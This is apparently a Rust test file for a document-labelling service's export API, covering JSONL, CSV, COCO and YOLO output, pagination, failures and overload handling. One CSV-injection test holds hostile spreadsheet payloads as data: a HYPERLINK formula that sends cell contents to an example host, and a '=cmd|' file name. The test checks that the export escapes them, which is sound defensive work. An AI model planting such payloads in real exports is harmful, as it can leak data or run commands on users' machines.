//! Exports: each document once, in the order in which they came, in formats that other programs read.

use std::future::poll_fn;
use std::io::{Cursor, Read as _};
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use actix_web::body::MessageBody as _;
use actix_web::http::StatusCode;
use actix_web::test::TestRequest;
use fieldmark_domain::document::{
    Description, Document, DocumentId, DocumentQuery, DocumentRecord, DocumentStatus, FieldCondition,
    ListedDocument,
};
use fieldmark_domain::field::Field;
use fieldmark_domain::label::StoredLabel;
use fieldmark_domain::listing::{Listing, Window};
use fieldmark_domain::ports::RepositoryError;
use futures_util::FutureExt as _;
use serde_json::{Value, json};
use uuid::Uuid;

use crate::mocked::{Answer, Ports, to_service};
use crate::samples::{document, findings, label, moment};

fn id(number: usize) -> DocumentId {
    DocumentId(Uuid::from_u128(0x0197_0000_0000_7000_8000_0000_0001_0000 + number as u128))
}

fn nth(number: usize) -> Document {
    let created_at = moment(number as i64);
    Document { id: id(number), created_at, ..document(DocumentStatus::Processed) }
}

/// The label that only this document has.
fn said(number: usize) -> StoredLabel {
    StoredLabel { document: id(number), ..label(Field::InvoiceNumber, &format!("A-{number}"), 0.5) }
}

/// As much of so many documents as comes after the last one that was seen.
fn part(query: &DocumentQuery, all: usize) -> Listing<ListedDocument> {
    let begin = query.after.map_or(0, |(at, last)| {
        let begin = (0..all).find(|number| id(*number) == last).unwrap();
        assert_eq!(at, nth(begin).created_at);
        begin + 1
    });
    let end = all.min(begin + query.window.limit as usize);
    let listed = |number| ListedDocument { document: nth(number), labels: vec![said(number)] };
    Listing { items: (begin..end).map(listed).collect(), total: (end - begin) as u64 }
}

/// Ports with so many documents, and how often they were looked for.
fn with(all: usize) -> (Ports, Arc<AtomicUsize>) {
    let (mut ports, looks) = (Ports::new(), Arc::new(AtomicUsize::new(0)));
    let looked = Arc::clone(&looks);
    ports.documents.expect_list().returning(move |_, query| {
        looked.fetch_add(1, Ordering::Relaxed);
        assert_eq!(query.window, Window { limit: 100, offset: 0 });
        assert!(query.with_labels && query.without_total && !query.order.descending);
        Ok(part(query, all))
    });
    ports.documents.expect_show().returning(|_, id| {
        let document = Document { id, ..document(DocumentStatus::Processed) };
        Ok(Some(DocumentRecord { document, labels: Vec::new(), findings: Some(findings(1)) }))
    });
    (ports, looks)
}

fn export(query: &str) -> TestRequest {
    TestRequest::get().uri(&format!("/api/v1/exports/labels?{query}"))
}

/// An export of so many documents.
async fn exported(all: usize, format: &str) -> Answer {
    let (ports, looks) = with(all);
    let answer = ports.ask(export(&format!("format={format}"))).await;
    assert_eq!(answer.status, StatusCode::OK);
    // What comes after a full part is not known before it is looked for.
    assert_eq!(looks.load(Ordering::Relaxed), all / 100 + 1);
    answer
}

fn kind(answer: &Answer) -> [&str; 2] {
    ["content-type", "content-disposition"].map(|name| answer.header(name))
}

/// The values of the labels of so many documents, in the order of an export.
fn expected(all: usize) -> Vec<String> {
    (0..all).map(|number| format!("A-{number}")).collect()
}

#[actix_web::test]
async fn json_lines_have_a_label_each() {
    for all in [0, 100, 250] {
        let answer = exported(all, "jsonl").await;
        assert_eq!(kind(&answer), ["application/jsonl", "attachment; filename=\"labels.jsonl\""]);
        let text = String::from_utf8(answer.bytes).unwrap();
        let lines: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        let values: Vec<&str> = lines.iter().map(|line| line["value"].as_str().unwrap()).collect();
        assert_eq!(values, expected(all));
        for (number, line) in lines.iter().enumerate() {
            assert_eq!(line["document_id"], id(number).to_string());
            assert_eq!(
                (&line["field"], &line["filename"]),
                (&json!("invoice_number"), &json!("invoice.pdf"))
            );
            assert_eq!(line["sha256"].as_str().unwrap().len(), 64);
        }
    }
}

#[actix_web::test]
async fn comma_separated_values_have_headings_and_a_row_a_label() {
    for all in [0, 250] {
        let answer = exported(all, "csv").await;
        assert_eq!(kind(&answer), ["text/csv; charset=utf-8", "attachment; filename=\"labels.csv\""]);
        let mut reader = csv::Reader::from_reader(answer.bytes.as_slice());
        let headings = reader.headers().unwrap().clone();
        assert_eq!(headings.len(), 17);
        let column = |name: &str| headings.iter().position(|heading| heading == name).unwrap();
        let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
        let values: Vec<&str> = rows.iter().map(|row| &row[column("value")]).collect();
        assert_eq!(values, expected(all));
        for (number, row) in rows.iter().enumerate() {
            assert_eq!(row[column("document_id")], id(number).to_string());
            let place = ["page", "left", "top", "width", "height"].map(|name| &row[column(name)]);
            assert_eq!(place, ["1", "0.5", "0.25", "0.125", "0.0625"]);
        }
    }
}

#[actix_web::test]
async fn text_that_a_spreadsheet_would_calculate_is_text_unless_it_is_wanted_raw() {
    const FORMULA: &str = "=HYPERLINK(\"http://a.example/?\"&A1;\"Invoice\")";
    let ports = || {
        let mut ports = Ports::new();
        ports.documents.expect_list().returning(|_, _| {
            let description = Description::of_file("=cmd|' !A0.pdf");
            let document = Document { description, ..nth(0) };
            let name = StoredLabel { document: id(0), ..label(Field::SupplierName, FORMULA, 0.5) };
            let amount = StoredLabel { document: id(0), ..label(Field::TotalGross, "-12.50", 0.5) };
            Ok(Listing { items: vec![ListedDocument { document, labels: vec![name, amount] }], total: 1 })
        });
        ports
    };
    for (query, name, value) in [
        ("format=csv", "'=cmd|' !A0.pdf", format!("'{FORMULA}")),
        ("format=csv&raw=true", "=cmd|' !A0.pdf", FORMULA.to_owned()),
    ] {
        let answer = ports().ask(export(query)).await;
        let mut reader = csv::Reader::from_reader(answer.bytes.as_slice());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.iter().map(|row| &row[1]).collect::<Vec<_>>(), [name, name]);
        assert_eq!(rows.iter().map(|row| &row[4]).collect::<Vec<_>>(), [value.as_str(), "-12.50"]);
        assert_eq!(rows.iter().map(|row| &row[6]).collect::<Vec<_>>(), [value.as_str(), "-12.50"]);
    }
}

#[actix_web::test]
async fn coco_has_an_image_a_page_and_its_boxes_in_pixels() {
    for all in [0, 250] {
        let answer = exported(all, "coco").await;
        assert_eq!(kind(&answer), ["application/json", "attachment; filename=\"labels.coco.json\""]);
        let dataset = answer.json();
        let [images, annotations, categories] =
            ["images", "annotations", "categories"].map(|name| dataset[name].as_array().unwrap().clone());
        assert_eq!((images.len(), annotations.len(), categories.len()), (all, all, Field::ALL.len()));
        for (number, (image, annotation)) in images.iter().zip(&annotations).enumerate() {
            assert_eq!(image["document_id"], id(number).to_string());
            assert_eq!([&image["width"], &image["height"], &image["page"]], [848, 1200, 1]);
            assert_eq!((&annotation["image_id"], &annotation["id"]), (&image["id"], &json!(number + 1)));
            assert_eq!(annotation["bbox"], json!([424.0, 300.0, 106.0, 75.0]));
            assert_eq!(annotation["value"], format!("A-{number}"));
            let category = &annotation["category_id"];
            let named = categories.iter().find(|known| known["id"] == *category).unwrap();
            assert_eq!(named["name"], "invoice_number");
        }
    }
}

#[actix_web::test]
async fn yolo_has_a_file_a_page_in_an_archive() {
    for all in [0, 250] {
        let answer = exported(all, "yolo").await;
        assert_eq!(kind(&answer), ["application/zip", "attachment; filename=\"labels.yolo.zip\""]);
        let mut archive = zip::ZipArchive::new(Cursor::new(answer.bytes)).unwrap();
        assert_eq!(archive.len(), all + 1);
        let mut text = |name: &str| {
            let mut text = String::new();
            archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
            text
        };
        let classes = text("data.yaml");
        let class = Field::ALL.iter().position(|field| *field == Field::InvoiceNumber).unwrap();
        assert!(classes.contains(&format!("\n  {class}: invoice_number\n")), "{classes}");
        for number in 0..all {
            let lines = text(&format!("labels/{}-1.txt", id(number)));
            assert_eq!(lines, format!("{class} 0.562500 0.281250 0.125000 0.062500\n"));
        }
    }
}

#[actix_web::test]
async fn an_export_that_fails_on_the_way_breaks_off() {
    let mut ports = Ports::new();
    ports.documents.expect_list().returning(|_, query| match query.after {
        None => Ok(part(query, 250)),
        Some(_) => Err(RepositoryError::Unavailable { reason: "secret".to_owned() }),
    });
    let service = ports.serve().await;
    let response = service.head(to_service(export("format=jsonl"))).await;
    assert_eq!(response.status(), StatusCode::OK);
    // The connection is closed without the body's end.
    let mut body = response.into_body();
    let mut sent = Vec::new();
    let error = loop {
        match poll_fn(|context| Pin::new(&mut body).poll_next(context)).await.unwrap() {
            Ok(piece) => sent.extend_from_slice(&piece),
            Err(error) => break error,
        }
    };
    assert_eq!(sent.iter().filter(|byte| **byte == b'\n').count(), 100);
    assert!(!format!("{error}{:?}", error.source()).contains("secret"));
}

#[actix_web::test]
async fn what_fails_before_anything_is_sent_has_a_status() {
    let mut ports = Ports::new();
    let reason = String::new;
    ports
        .documents
        .expect_list()
        .returning(move |_, _| Err(RepositoryError::Unavailable { reason: reason() }));
    let answer = ports.ask(export("format=csv")).await;
    assert_eq!(answer.failure(), (503, "database_unavailable".to_owned()));
    let answer = Ports::new().ask(export("format=xlsx&min_confidence=2.5x&status=gone")).await;
    assert_eq!(answer.failure(), (422, "validation_failed".to_owned()));
    assert_eq!(answer.details(), ["format", "status", "min_confidence"]);
    assert_eq!(
        Ports::new().ask(export("sort=created_at")).await.failure(),
        (400, "unknown_parameter".to_owned())
    );
    let folder = tempfile::tempdir().unwrap();
    let (mut ports, _) = with(1);
    ports.limits.upload_folder = folder.path().join("gone");
    assert_eq!(ports.ask(export("format=coco")).await.failure(), (500, "storage_failed".to_owned()));
}

#[actix_web::test]
async fn an_export_has_the_conditions_of_the_list() {
    let mut ports = Ports::new();
    ports
        .documents
        .expect_list()
        .withf(|_, query| {
            query.statuses == [DocumentStatus::Approved]
                && query.created_from == Some("2024-03-01T00:00:00Z".parse().unwrap())
                && query.text.as_deref() == Some("acme")
                && query.fields == [FieldCondition::written(Field::InvoiceNumber, "a-117")]
                && query.min_confidence == Some(0.5)
        })
        .times(1)
        .returning(|_, query| Ok(part(query, 1)));
    let query = "status=approved&created_from=2024-03-01T00:00:00Z&q=Acme&field.invoice_number=A-117&min_confidence=0.5";
    let answer = ports.ask(export(query)).await;
    assert_eq!(answer.json()["value"], "A-0");
}

#[actix_web::test]
async fn a_client_that_leaves_makes_room_for_another_export() {
    let (ports, _) = with(1000);
    let service = ports.serve().await;
    // More parts than wait for a client, so that none of these comes to its end by itself.
    let mut held = Vec::new();
    for _ in 0..4 {
        held.push(service.head(to_service(export(""))).await);
    }
    let refused = service.head(to_service(export(""))).now_or_never().unwrap();
    assert_eq!(Answer::of(refused).await.failure(), (503, "overloaded".to_owned()));
    held.pop();
    let mut answer = service.ask(export("")).await;
    for _ in 0..100 {
        if answer.status == StatusCode::OK {
            break;
        }
        tokio::task::yield_now().await;
        answer = service.ask(export("")).await;
    }
    assert_eq!(answer.bytes.iter().filter(|byte| **byte == b'\n').count(), 1000);
}
